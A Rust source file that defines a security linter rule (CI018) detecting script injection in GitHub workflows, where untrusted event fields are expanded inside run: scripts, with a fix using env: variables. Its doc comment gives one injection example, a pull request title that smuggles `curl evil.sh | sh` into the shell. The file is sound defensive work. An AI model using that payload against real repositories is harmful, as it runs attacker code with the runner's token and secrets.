use crate::declare_rule;
use crate::rules::{fail, pass, short_list};

declare_rule! {
    /// A workflow interpolates attacker-controlled input into a shell script.
    ///
    /// ## What it checks
    /// `run:` scripts (and `script:` inputs) of GitHub workflows that expand, with `${{ }}`,
    /// fields anyone can set: issue and pull request titles and bodies, comment and review
    /// bodies, commit messages and authors, head branch names (`github.head_ref`,
    /// `github.event.pull_request.head.ref`), discussion titles.
    ///
    /// ## Why it matters
    /// The expression is substituted into the script before the shell runs it. A pull request
    /// titled `"; curl evil.sh | sh; #` runs arbitrary commands in your runner, with its
    /// token and secrets.
    ///
    /// ## How to fix
    /// Pass the value through an environment variable, which the shell does not re-parse:
    ///
    /// ```yaml
    /// - run: echo "Title: $TITLE"
    ///   env:
    ///     TITLE: ${{ github.event.pull_request.title }}
    /// ```
    ///
    /// References: <https://docs.github.com/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections>
    ScriptInjection {
        id: "CI018",
        name: "script-injection",
        category: Ci,
        severity: High,
        level: 2,
        effort: QuickWin,
        confidence: High,
        needs: ["ci.script_injection"],
        fix: "Pass untrusted event fields to scripts through `env:`, never `${{ }}` inside `run:`.",
        done: "No workflow interpolates attacker-controlled input into a shell script",
    }
    fn check(inv) {
        let contexts = inv.list("ci.script_injection");
        if contexts.is_empty() {
            return pass();
        }
        let fact = inv.get("ci.script_injection");
        fail(format!("{} place(s) expand attacker-controlled {} inside a shell script", fact.evidence.len(), short_list(&contexts)), fact.evidence.clone())
    }
}
